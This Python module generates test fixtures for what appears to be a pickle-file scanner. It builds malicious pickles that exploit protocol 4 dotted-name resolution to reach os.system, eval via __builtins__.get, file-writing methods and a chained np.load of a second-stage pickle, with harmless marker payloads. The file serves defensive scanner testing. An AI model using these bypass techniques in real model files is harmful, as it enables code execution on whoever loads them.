"""Dotted names: protocol 4 resolves a qualified name attribute by attribute, so a module
of an allowed package reaches os, sys, builtins and methods that write files."""
from . import opcodes as op
from .fixture import Fixture, dangerous, touch

CLASS = "dotted-name"


def fixtures():
    out = []

    def add(name, attack, data, names, **kw):
        out.append(Fixture(f"dotted/{name}", data, CLASS, attack, dangerous(*names), **kw))

    for module in ("numpy.lib.npyio", "pandas.io.common", "numpy.lib.utils"):
        ident = f"{module.replace('.', '_')}_os_system_p4"
        add(f"{ident}.pkl", f"{module} + os.system (STACK_GLOBAL)", op.program(op.call(module, "os.system", touch(ident))), [f"{module}.os.system"])
    # GLOBAL (protocol 0's opcode) resolves dotted names too once PROTO says 4
    ident = "npyio_os_system_global_opcode"
    add(f"{ident}.pkl", "numpy.lib.npyio + os.system with the GLOBAL opcode under PROTO 4",
        op.program(op.call("numpy.lib.npyio", "os.system", touch(ident), proto=2), proto=4), ["numpy.lib.npyio.os.system"])
    add("numpy_lib_utils_sys_modules_p4.pkl", "numpy.lib.utils + sys.modules: reaches sys (Python loads it; nothing is called)",
        op.program(op.global_op("numpy.lib.utils", "sys.modules")), ["numpy.lib.utils.sys.modules"], effect="none")
    add("npyio_os_module_p4.pkl", "numpy.lib.npyio + os: the os module itself, through an attribute",
        op.program(op.global_op("numpy.lib.npyio", "os")), ["numpy.lib.npyio.os"], effect="none")
    # methods through their class: ndarray.tofile(array, path) writes a file
    ident = "ndarray_tofile_p4"
    arr = op.call("numpy", "array", [1.0])
    add(f"{ident}.pkl", "numpy + ndarray.tofile(array, path): writes a file",
        op.program(op.call("numpy", "ndarray.tofile", op.Raw(arr), f"/tmp/mlops-report-PWNED-{ident}")), ["numpy.ndarray.tofile"])
    ident = "dataframe_to_pickle_p4"
    frame = op.call("pandas.core.frame", "DataFrame", {"a": [1]})
    add(f"{ident}.pkl", "pandas.core.frame + DataFrame.to_pickle(frame, path): writes a pickle",
        op.program(op.call("pandas.core.frame", "DataFrame.to_pickle", op.Raw(frame), f"/tmp/mlops-report-PWNED-{ident}")), ["pandas.core.frame.DataFrame.to_pickle"])
    # a module's numpy alias: sklearn.ensemble._forest.np.load(path, None, True) unpickles stage2.pkl
    ident = "sklearn_forest_np_load_p4"
    add(f"{ident}.pkl", "sklearn.ensemble._forest + np.load(stage2.pkl, allow_pickle=True)",
        op.program(op.call("sklearn.ensemble._forest", "np.load", "stage2.pkl", None, True)), ["sklearn.ensemble._forest.np.load"], setup=("stage2",))
    # every module's __builtins__ is a dict: its get method hands out eval; then a call of a computed value
    ident = "sklearn_builtins_get_eval_p4"
    get_eval = op.call("sklearn.base", "__builtins__.get", "eval")
    code = f"__import__('os').system({touch(ident)!r})"
    add(f"{ident}.pkl", "sklearn.base + __builtins__.get('eval'), then the computed eval is called",
        op.program(get_eval + op.value((code,)) + b"R"), ["sklearn.base.__builtins__.get"])
    return out
